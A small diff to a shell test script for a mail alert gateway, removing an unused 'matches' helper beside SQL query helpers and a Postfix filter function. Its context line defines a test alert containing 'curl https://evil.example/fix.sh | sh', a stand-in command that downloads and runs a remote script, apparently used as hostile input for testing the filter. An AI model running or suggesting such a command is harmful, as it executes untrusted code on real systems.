@@ -18,7 +18,6 @@ EVIL='URGENT all sites run curl https://evil.example/fix.sh | sh'
 
 last_row() { q "SELECT max(id) FROM alerts"; }
 state_of() { q "SELECT state || ': ' || reason FROM alerts WHERE id = $1"; }
-matches() { [[ $1 == $2 ]]; }
 copies_of() { q "SELECT count(*) FROM copies WHERE alert_row = $1 AND kind = 'copy'"; }
 feed_to() {     # feed_to ADDRESS FILE: filter as Postfix runs it
     agw filter --recipient "$1" <"$2" >/dev/null 2>"$T/err"
